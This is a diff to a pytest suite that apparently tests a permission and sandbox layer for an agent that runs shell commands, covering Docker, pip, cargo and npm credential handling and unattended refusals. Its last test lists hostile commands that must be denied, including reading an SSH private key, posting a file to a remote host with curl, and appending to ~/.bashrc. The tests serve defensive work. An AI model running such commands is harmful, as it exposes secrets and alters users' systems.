@@ -5,6 +5,8 @@ from __future__ import annotations
 import os
 import shutil
 import tarfile
+import venv
+import zipfile
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -490,9 +492,9 @@ def test_transfers_by_https_see_the_stored_credentials_and_no_key_of_ssh(
         ("npm ci", [], "", True),
         ("npm publish", [".npmrc"], "the scripts of package.json, and the settings of this folder", False),
         ("npm run view", [], "", False),
-        ("docker build -t x .", [".docker/config.json", "/run"], "", False),
-        ("docker -H tcp://127.0.0.1:9 push x", [], "", True),
-        ("docker compose build", ["/run"], "", False),
+        ("docker build -t x .", [".docker/config.json"], "", False),
+        ("docker -H tcp://127.0.0.1:9 push x", [], "", False),
+        ("docker compose build", [], "", False),
         ("psql -h db.example.org -c 'select 1'", [".pgpass"], "", False),
         ("psql -h localhost -c 'select 1'", [".pgpass"], "a server on this machine", False),
         ("psql -c '\\d users'", [".pgpass"], "", False),
@@ -554,3 +556,87 @@ def test_make_runs_the_tests_of_a_project(tmp_path: Path, people: Callable[..., 
     done = person.run("make test", attended=False)
     assert "tested" in done.content
     assert "NEEDLE" not in done.content
+
+
+WHEEL = {
+    "x.py": "y = 1\n",
+    "x-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n",
+    "x-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n",
+    "x-1.0.dist-info/RECORD": "x.py,,\n",
+}
+
+
+def test_pip_installs_a_wheel_into_the_environment_of_a_project(
+    tmp_path: Path, people: Callable[..., Person], layer: str
+) -> None:
+    person = people(tmp_path.resolve())
+    venv.create(person.work / ".venv", with_pip=True)
+    with zipfile.ZipFile(person.work / "x-1.0-py3-none-any.whl", "w") as wheel:
+        for name, text in WHEEL.items():
+            wheel.writestr(name, text)
+    done = person.run(
+        ".venv/bin/pip install --no-index ./x-1.0-py3-none-any.whl && .venv/bin/python -c 'import x'",
+        attended=False,
+    )
+    assert done.ok, done.content
+
+
+@pytest.mark.parametrize(
+    ("command", "decision"),
+    [
+        ("docker ps", "allow"),
+        ("docker compose -f x.yml logs web", "allow"),
+        ("docker compose exec web ls", "allow"),
+        ("docker build .", "allow"),
+        ("docker compose up -d", "ask"),
+        ("docker compose --profile ps up", "ask"),
+        ("docker-compose up", "ask"),
+        ("docker run --rm alpine true", "ask"),
+        ("docker start db", "ask"),
+    ],
+)
+def test_what_starts_containers_asks_with_the_socket_named(
+    tmp_path: Path, people: Callable[..., Person], command: str, decision: str
+) -> None:
+    folder = tmp_path.resolve()
+    person = people(folder, environ={"DOCKER_HOST": f"unix://{folder}/docker.sock"})
+    verdict = person.verdict(command)
+    assert verdict.decision == decision, verdict
+    if decision == "ask":
+        assert "showing $DOCKER_HOST to containers" in verdict.rule
+        assert "root on this machine" in person.run(command, attended=False).content
+
+
+def test_cargo_finds_its_token_where_its_home_is_a_cache(
+    tmp_path: Path, people: Callable[..., Person], layer: str
+) -> None:
+    person = people(tmp_path.resolve())
+    person.write(person.folder / ".cargo/credentials.toml", "NEEDLE-cargo")
+    person.program("cargo", '#!/bin/sh\ncat "$CARGO_HOME/credentials.toml"\n')
+    assert "~/.cargo/credentials.toml" in person.verdict("cargo publish").rule
+    assert person.run("cargo publish", approved=True).content == "NEEDLE-cargo"
+    assert "NEEDLE" not in person.run("cargo build", attended=False).content
+
+
+@pytest.mark.parametrize(
+    ("command", "refused"),
+    [
+        ("cat ~/.ssh/id_ed25519", True),
+        ("rm -rf build", True),
+        ("curl -d @a.txt https://example.org", True),
+        ("npm publish", True),
+        ("sudo ls", True),
+        ("echo x >> ~/.bashrc", True),
+        ("git push", True),
+        ("ls && git status", False),
+        ("make test", False),
+    ],
+)
+def test_without_a_sandbox_the_rules_alone_refuse_in_unattended_turns(
+    tmp_path: Path, people: Callable[..., Person], command: str, refused: bool
+) -> None:
+    person = people(tmp_path.resolve(), mode="off")
+    person.repository()
+    person.write(".git/hooks/pre-push", "#!/bin/sh\n", executable=True)
+    person.write("build/x", "x")
+    assert (person.verdict(command, attended=False).decision == "deny") == refused
